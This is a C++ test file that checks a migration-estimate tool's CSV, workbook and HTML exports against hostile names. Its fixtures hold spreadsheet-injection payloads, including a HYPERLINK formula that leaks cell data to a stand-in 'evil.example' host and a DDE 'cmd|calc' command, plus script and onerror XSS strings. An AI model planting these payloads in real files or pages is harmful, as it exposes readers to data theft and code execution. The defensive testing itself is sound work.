// tests/io/export_safety_test.cpp - exports a stranger's names cannot turn against the reader: no CSV cell a
// spreadsheet runs, workbook names as strings (never formulas), HTML escaped under a strict Content-Security-Policy.
#include <catch2/catch.hpp>

#include <algorithm>
#include <cctype>
#include <functional>
#include <string>
#include <vector>

#include "embedded_assets.hpp"
#include "formats/csv.hpp"
#include "io/defaults_json.hpp"
#include "io/executive_summary_html.hpp"
#include "io/html_page.hpp"
#include "io/report.hpp"
#include "io/tagging_plan_csv.hpp"
#include "io/wave_plan_out.hpp"
#include "io/xlsx_business_case.hpp"
#include "formats/xlsx_writer.hpp"
#include "formats/zip_reader.hpp"
#include "model/engine.hpp"

using namespace est::io;
using namespace est::formats;
namespace m = est::model;

namespace {

// Hostile names: every formula-leading character before payloads seen in CSV-injection write-ups, plus names
// with quotes, commas and line ends that are not formulas (they must come back unchanged).
std::vector<std::string> formulaNames() {
    const std::vector<std::string> leads = {"=", "+", "-", "@", "\t", "\r", "\t=", "\r="};
    const std::vector<std::string> payloads = {"HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
                                               "2+3+cmd|' /C calc'!A0", "SUM(1)", "1", "cmd|calc, \"x\"\nnext"};
    std::vector<std::string> out;
    for (const std::string& lead : leads)
        for (const std::string& payload : payloads) out.push_back(lead + payload);
    out.push_back("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
    out.push_back("-2+3+cmd|calc");
    out.push_back("@SUM(1)");
    out.push_back("+1");
    return out;
}

const std::vector<std::string> kPlainNames = {"web, \"01\"", "db\nprimary", "app \"x\"", "a;b", "12 East"};

// The shipped defaults with the hostile names as workloads, applications, operating systems and wave names.
m::Scenario hostileEstate() {
    m::Scenario s = embeddedDefaults().scenario;
    s.settings.name = "<script>alert(1)</script>";
    s.plan.waves = {{"=cmd|calc", 3, 2, 1}, {"@wave", 6, 2, 1}};
    std::vector<std::string> names = formulaNames();
    names.insert(names.end(), kPlainNames.begin(), kPlainNames.end());
    for (std::size_t i = 0; i < names.size(); ++i) {
        m::Workload w;
        w.id = i % 2 == 0 ? names[i] + " #" + std::to_string(i) : "id-" + std::to_string(i); // ids are unique
        w.name = names[i];
        w.application = names[(i + 1) % names.size()];
        w.os = i % 3 == 0 ? "-Windows Server 2019" : "Ubuntu 22.04";
        w.vcpu = 4;
        w.ramGb = 16.0;
        w.wave = static_cast<int>(i % 2) + 1;
        s.workloads.push_back(w);
    }
    return s;
}

// A cell written as a number by appendCsvNumber: digits with an optional minus and decimals.
bool isPlainNumber(const std::string& cell) {
    std::size_t i = cell.size() > 1 && cell[0] == '-' ? 1 : 0;
    bool digits = false, point = false;
    for (; i < cell.size(); ++i) {
        if (std::isdigit(static_cast<unsigned char>(cell[i])))
            digits = true;
        else if (cell[i] == '.' && !point)
            point = true;
        else
            return false;
    }
    return digits;
}

struct CsvWriter {
    const char* name;
    std::function<std::string(const m::Scenario&, const m::Result&)> write;
};

const std::vector<CsvWriter>& csvWriters() {
    static const std::vector<CsvWriter> writers = {
        {"tagging plan", [](const m::Scenario& s, const m::Result& r) { return taggingPlanCsv(s, r); }},
        {"Cloud Migration Factory intake", [](const m::Scenario& s, const m::Result& r) { return cmfIntakeCsv(s, r); }},
        {"monthly series",
         [](const m::Scenario& s, const m::Result& r) { return seriesCsv(s, r, SeriesPeriod::Monthly); }},
        {"yearly series",
         [](const m::Scenario& s, const m::Result& r) { return seriesCsv(s, r, SeriesPeriod::Yearly); }},
    };
    return writers;
}

} // namespace

TEST_CASE("a formula-leading text cell is written with an apostrophe, other text and numbers are not touched",
          "[io][csv][safety]") {
    for (const std::string& name : formulaNames()) {
        CAPTURE(name);
        std::string line;
        appendCsvField(line, name);
        const CsvResult back = readCsv("h\n" + line + "\n");
        REQUIRE(back.table.rows.size() == 1);
        std::string expected = "'" + name;
        if (name.find_first_of("\"\n\r,") != std::string::npos) // the reader drops CR inside quotes (CRLF files)
            expected.erase(std::remove(expected.begin(), expected.end(), '\r'), expected.end());
        CHECK(back.table.rows[0][0] == expected);
    }
    for (const std::string& name : kPlainNames) {
        std::string line;
        appendCsvField(line, name);
        CHECK(readCsv("h\n" + line + "\n").table.rows.at(0).at(0) == name);
    }
    std::string numbers;
    appendCsvNumber(numbers, -12.5);
    numbers += ',';
    appendCsvNumber(numbers, 1234.567, 1);
    CHECK(numbers == "-12.50,1234.6");
    CHECK_FALSE(startsLikeFormula(""));
    CHECK_FALSE(startsLikeFormula("web-01"));
    CHECK(startsLikeFormula("\r"));
}

TEST_CASE("no CSV the product writes has a text cell that starts like a formula, whatever the names",
          "[io][csv][safety]") {
    const m::Scenario s = hostileEstate();
    const m::Result r = m::estimate(s);
    for (const auto& e : r.errors) UNSCOPED_INFO(e.toString());
    REQUIRE(r.ok());
    for (const CsvWriter& writer : csvWriters()) {
        CAPTURE(writer.name);
        const CsvResult csv = readCsv(writer.write(s, r));
        REQUIRE(csv.problems.empty());
        REQUIRE_FALSE(csv.table.rows.empty());
        std::size_t neutralised = 0, negatives = 0;
        for (const std::vector<std::string>& row : csv.table.rows)
            for (const std::string& cell : row) {
                CAPTURE(cell);
                if (isPlainNumber(cell)) {
                    negatives += cell[0] == '-';
                    continue;
                }
                CHECK_FALSE(startsLikeFormula(cell));
                if (!cell.empty() && cell[0] == '\'') ++neutralised;
            }
        for (const std::string& cell : csv.table.header) CHECK_FALSE(startsLikeFormula(cell));
        // The writers that carry names did meet the hostile ones (the check above is not vacuous).
        if (std::string(writer.name).find("series") == std::string::npos)
            CHECK(neutralised > 0);
        else
            CHECK(negatives > 0); // the series carries negative amounts, still written as numbers
    }
}

TEST_CASE("the workbook writes hostile names as strings, never as formulas", "[io][xlsx][safety]") {
    const m::Scenario s = hostileEstate();
    const m::Result r = m::estimate(s);
    REQUIRE(r.ok());
    std::size_t namesSeen = 0;
    for (const XlsxSheet& sheet : businessCaseSheets(s, r, assumptionSources(*est::assets::find("defaults.json"))))
        for (const std::vector<XlsxCell>& row : sheet.rows)
            for (const XlsxCell& cell : row) {
                if (cell.kind == XlsxCell::Kind::Text &&
                    cell.text == "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")")
                    ++namesSeen;
                CHECK(cell.formula.find("HYPERLINK") == std::string::npos);
                CHECK(cell.formula.find("cmd") == std::string::npos);
            }
    CHECK(namesSeen > 0);
    // In the file itself: the name is a shared string, and no sheet's formula (<f>) holds it.
    const std::string bytes = writeBusinessCaseXlsx(s, r);
    std::vector<InputProblem> problems;
    const auto zip = ZipReader::open(bytes, problems);
    REQUIRE(zip);
    std::string sharedStrings;
    REQUIRE(zip->read("xl/sharedStrings.xml", sharedStrings).empty());
    CHECK(sharedStrings.find("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;open&quot;)") !=
          std::string::npos);
    std::size_t sheets = 0;
    for (const ZipEntry& entry : zip->entries()) {
        if (entry.name.rfind("xl/worksheets/", 0) != 0) continue;
        ++sheets;
        std::string xml;
        REQUIRE(zip->read(entry, xml).empty());
        for (std::size_t at = xml.find("<f>"); at != std::string::npos; at = xml.find("<f>", at + 1)) {
            const std::string formula = xml.substr(at, xml.find("</f>", at) - at);
            CHECK(formula.find("HYPERLINK") == std::string::npos);
            CHECK(formula.find("cmd") == std::string::npos);
        }
    }
    CHECK(sheets > 1);
}

TEST_CASE("every HTML export escapes hostile names and carries the strict Content-Security-Policy",
          "[io][html][safety]") {
    m::Scenario s = hostileEstate();
    s.settings.name = "\"><img src=x onerror=alert(1)><script>alert(2)</script>";
    s.workloads[0].name = "<script>alert(3)</script>";
    s.workloads[1].application = "\"><img src=x onerror=alert(4)>";
    const m::Result r = m::estimate(s);
    REQUIRE(r.ok());
    PartnerBrand partner;
    partner.name = "<script>alert(5)</script>";
    const std::vector<std::pair<const char*, std::string>> pages = {
        {"report", htmlReport(s, r, embeddedDefaults().ledger)},
        {"executive summary", executiveSummaryHtml(s, r, embeddedDefaults().ledger, &partner, "2026-12-02")}};
    const std::string cspMeta =
        "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; "
        "style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'\">";
    for (const auto& [name, html] : pages) {
        CAPTURE(name);
        CHECK(html.find("<script") == std::string::npos);
        CHECK(html.find("<img src=x") == std::string::npos);
        CHECK(html.find("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(2)&lt;/script&gt;") !=
              std::string::npos);
        // The policy comes first in the head, before the title: before any text a name could reach.
        const std::size_t policy = html.find(cspMeta);
        REQUIRE(policy != std::string::npos);
        CHECK(policy < html.find("<title>"));
        CHECK(policy < html.find("&lt;img"));
    }
    CHECK(pages[0].second.find("&lt;script&gt;alert(3)&lt;/script&gt;") != std::string::npos);
    CHECK(pages[1].second.find("&lt;script&gt;alert(5)&lt;/script&gt;") != std::string::npos);
}
